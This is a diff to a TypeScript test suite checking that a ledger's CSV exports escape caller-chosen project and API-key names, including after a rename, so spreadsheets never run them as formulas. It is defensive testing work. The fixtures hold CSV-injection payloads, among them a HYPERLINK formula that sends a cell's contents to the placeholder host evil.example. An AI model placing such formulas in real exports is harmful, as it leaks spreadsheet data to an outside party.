@@ -1,6 +1,6 @@
 import { parseCsv } from './support/csv.js';
 import { SmtpSink } from './support/smtp-sink.js';
-import { type TestApp, call, dropSchema, setUpOrganization, startTestApp } from './support/test-app.js';
+import { type TestApp, call, dropSchema, rename, setUpOrganization, startTestApp } from './support/test-app.js';
 
 const PROJECT_NAME = '=1+1';
 const KEY_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"open")';
@@ -85,9 +85,14 @@ describe('ledger CSV export: caller-chosen text is never a live formula', () => 
     const response = await fetch(`${app.url}/orgs/${owner.orgId}/ledger?format=finance`, {
       headers: { authorization: `Bearer ${owner.session}`, accept: 'text/csv' },
     });
-    const [header, ...records] = parseCsv(await response.text());
+    const [header, ...all] = parseCsv(await response.text());
     const cell = (record: string[], name: string) => record[header!.indexOf(name)];
+    const records = all.filter((record) => cell(record, 'Record') === 'charge');
     expect(records).toHaveLength(5);
+    expect(all.slice(5).map((record) => [cell(record, 'Record'), cell(record, 'Credits')])).toEqual([
+      ['total', '5'],
+      ['total', '0'],
+    ]);
     for (const record of records) {
       expect(cell(record, 'Project')).toBe(`'${PROJECT_NAME}`);
       expect(cell(record, 'Key')).toBe(`'${KEY_NAME}`);
@@ -95,6 +100,30 @@ describe('ledger CSV export: caller-chosen text is never a live formula', () => 
     }
     const expected = [...IDEMPOTENCY_KEYS.map((key) => `'${key}`), '-7'];
     expect(records.map((record) => cell(record, 'Idempotency key')).sort()).toEqual(expected.sort());
+  });
+
+  test('a rename to a formula: today’s names beside the names as charged are text too', async () => {
+    const keys = await call(app.url, 'GET', `/orgs/${owner.orgId}/api-keys`, { token: owner.session });
+    const keyId = (keys.body.keys as { id: string; name: string }[]).find((k) => k.name === KEY_NAME)!.id;
+    await rename(app, owner, `api-keys/${keyId}`, '@SUM(A1:A9)');
+    const audit = await fetch(`${app.url}/orgs/${owner.orgId}/ledger`, {
+      headers: { authorization: `Bearer ${owner.session}`, accept: 'text/csv' },
+    });
+    const text = await audit.text();
+    const [header, ...records] = parseCsv(text);
+    for (const record of records) {
+      expect(record[header!.indexOf('key_name')]).toBe(`'${KEY_NAME}`);
+      expect(record[header!.indexOf('key_name_now')]).toBe("'@SUM(A1:A9)");
+    }
+    expect(text).toContain(`,"'@SUM(A1:A9)",`);
+    const finance = await fetch(`${app.url}/orgs/${owner.orgId}/ledger?format=finance`, {
+      headers: { authorization: `Bearer ${owner.session}`, accept: 'text/csv' },
+    });
+    const [financeHeader, ...financeRecords] = parseCsv(await finance.text());
+    const charges = financeRecords.filter((record) => record[0] === 'charge');
+    expect(charges.map((record) => record[financeHeader!.indexOf('Key now')])).toEqual(
+      charges.map(() => "'@SUM(A1:A9)"),
+    );
   });
 
   test('the numeric columns are untouched', () => {
